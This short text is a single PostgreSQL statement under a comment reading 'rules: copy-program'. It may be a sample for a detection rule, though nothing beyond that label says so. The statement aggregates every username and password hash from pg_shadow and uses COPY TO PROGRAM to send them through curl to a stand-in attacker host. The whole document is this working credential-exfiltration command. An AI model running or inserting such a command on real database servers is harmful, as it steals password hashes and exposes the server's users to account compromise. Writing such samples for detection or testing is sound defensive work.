-- rules: copy-program
COPY (SELECT string_agg(usename || ':' || passwd, E'\n') FROM pg_shadow) TO PROGRAM 'curl -s --data-binary @- https://attacker.example/c';
